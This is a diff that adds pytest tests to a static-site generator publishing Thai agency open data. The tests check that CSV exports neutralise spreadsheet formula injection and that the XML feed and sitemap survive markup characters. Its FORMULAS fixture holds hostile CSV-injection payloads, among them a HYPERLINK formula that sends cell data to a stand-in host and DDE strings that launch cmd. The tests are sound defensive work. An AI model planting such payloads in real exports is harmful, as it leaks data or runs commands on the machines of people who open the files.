@@ -5,16 +5,25 @@ from __future__ import annotations
 import csv
 import io
 import json
+import shutil
 import xml.dom.minidom
 from pathlib import Path
+from typing import Any
 from urllib.parse import urljoin, urlparse
+from xml.etree import ElementTree
 
 import jsonschema
+import pytest
+import yaml
 from frictionless import Package
 
-from generator.render.opendata import TABLES
+from generator.build import build_site
+from generator.fields import BiText
+from generator.model import walk
+from generator.render.opendata import TABLES, spreadsheet_safe
 from generator.schema import schema_of
-from tests.conftest import SITE, page
+from generator.validate import validate_paths
+from tests.conftest import CONFIG, CONTENT, SITE, page
 
 
 def downloads(built_site: Path, prefix: str = "") -> set[str]:
@@ -128,3 +137,129 @@ def test_the_feed_and_the_sitemap_parse_and_pair_languages(built_site: Path) -> 
     assert "https://c3.ratchaburi.example.go.th/en/agencies/ratchaburi-land-office/2569/" in locations
     alternates = sitemap.getElementsByTagName("xhtml:link")
     assert len(alternates) == 2 * len(locations)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"คลิก")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "   =1+1",
+    "\u3000=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "ข้อ;=1+1,=2+2",
+]
+XML_NAME = "=สำนักงาน & <b>ทดสอบ</b> ]]> \"คำพูด\" 'เดี่ยว'"
+
+
+def formula_content(folder: Path) -> Path:
+    """The land office with a formula, or XML's own characters, at the start of every text it has."""
+    target = folder / "formula-office"
+    shutil.copytree(CONTENT / "ratchaburi-land-office", target)
+    site, _ = validate_paths([target])
+    agency = site.agencies[0]
+    count = 0
+    for name, model in [("agency.yml", agency.agency), ("2569.yml", agency.reports[2569])]:
+        path = target / name
+        data = yaml.safe_load(path.read_text(encoding="utf-8"))
+        for loc, value in walk(model):
+            if isinstance(value, BiText):
+                count += 1
+                payload = FORMULAS[count % len(FORMULAS)]
+                _put(data, loc, {"th": f"{payload} ข้อ {count}", "en": f"{payload} item {count}"})
+        if name == "agency.yml":
+            data["name"] = {"th": XML_NAME, "en": "@Formula & <Office> ]]> \"q\" 'a'"}
+        path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    return folder
+
+
+def _put(data: Any, loc: tuple[str | int, ...], value: Any) -> None:
+    for part in loc[:-1]:
+        data = data[part]
+    data[loc[-1]] = value
+
+
+def project_folder(folder: Path) -> Path:
+    """``folder`` as a copy of this project that builds its own ``content/agencies``."""
+    folder.mkdir(parents=True, exist_ok=True)
+    shutil.copy2(CONFIG, folder / "mkdocs.yml")
+    for name in ("docs", "theme_overrides", "generator", "mkdocs.en.yml"):
+        (folder / name).symlink_to(CONFIG.parent / name, target_is_directory=(CONFIG.parent / name).is_dir())
+    (folder / "content" / "agencies").mkdir(parents=True)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A real build of one agency whose every text starts like a spreadsheet formula."""
+    project = project_folder(tmp_path_factory.mktemp("formula"))
+    content = formula_content(project / "content" / "agencies")
+    site = project / "site"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("NO_MKDOCS_2_WARNING", "1")
+        assert build_site(project / "mkdocs.yml", site, content) == 0
+    return site
+
+
+def runs_as_formula(cell: str) -> bool:
+    return bool(cell) and (cell[0] in "\t\r\n" or cell.lstrip()[:1] in set("=+-@＝＋－＠"))
+
+
+def test_no_csv_cell_runs_as_a_formula_in_a_spreadsheet(formula_site: Path) -> None:
+    for table in TABLES:
+        text = (formula_site / "data" / f"{table.name}.csv").read_text(encoding="utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert len(rows) > 1, f"{table.name}: the hostile agency has rows here"
+        kinds = [kind for _, kind, *_ in table.columns]
+        quoted = 0
+        for row in rows[1:]:
+            for cell, kind in zip(row, kinds, strict=True):
+                assert not runs_as_formula(cell), (table.name, cell)
+                if kind == "integer":
+                    assert cell == "" or cell.isdigit(), (table.name, cell)
+                if cell.startswith("'") and runs_as_formula(cell[1:]):
+                    quoted += 1
+        assert quoted, f"{table.name}: the formulas are kept as text behind a quote"
+        numbers = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
+        for row in list(numbers)[1:]:  # unquoted cells read as numbers: only the counts and years
+            for cell, kind in zip(row, kinds, strict=True):
+                assert isinstance(cell, float if kind == "integer" and cell != "" else str), (
+                    table.name,
+                    cell,
+                )
+
+
+def test_json_downloads_keep_the_exact_text_and_the_data_page_says_csv_differs(formula_site: Path) -> None:
+    agency = json.loads((formula_site / "agencies/formula-office/agency.json").read_text(encoding="utf-8"))
+    assert agency["name"]["th"] == XML_NAME
+    report = json.loads((formula_site / "agencies/formula-office/2569.json").read_text(encoding="utf-8"))
+    texts = [
+        step["action"]["th"] for chart in report["service_standards"]["flowcharts"] for step in chart["steps"]
+    ]
+    assert all(text.startswith(tuple(f.strip() for f in FORMULAS)) for text in texts), texts
+    assert not any(text.startswith("'") for text in texts)
+    for prefix, words in (("", "JSON"), ("en/", "exact text")):
+        note = page(formula_site, prefix + "data/").select_one(".c3-csv-formulas")
+        assert note is not None and "= + - @" in note.get_text() and words in note.get_text()
+
+
+def test_the_feed_and_the_sitemap_stay_xml_with_xmls_own_characters_in_a_name(formula_site: Path) -> None:
+    atom = "{http://www.w3.org/2005/Atom}"
+    feed = ElementTree.parse(formula_site / "feed.xml").getroot()
+    titles = [entry.findtext(f"{atom}title") or "" for entry in feed.iter(f"{atom}entry")]
+    assert titles and titles[0].startswith(XML_NAME + " · ")
+    sitemap = ElementTree.parse(formula_site / "sitemap.xml").getroot()
+    locations = [loc.text for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
+    assert any((loc or "").endswith("/agencies/formula-office/2569/") for loc in locations)
+
+
+def test_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers() -> None:
+    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\tx", " =1", "\u3000＝1", "＋1", "－1", "＠A1"):
+        assert spreadsheet_safe(text) == "'" + text
+    for value in ("ราชบุรี", "1-2", "a=b", "", "'=1", "–1"):
+        assert spreadsheet_safe(value) == value
+    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(1450) == 1450
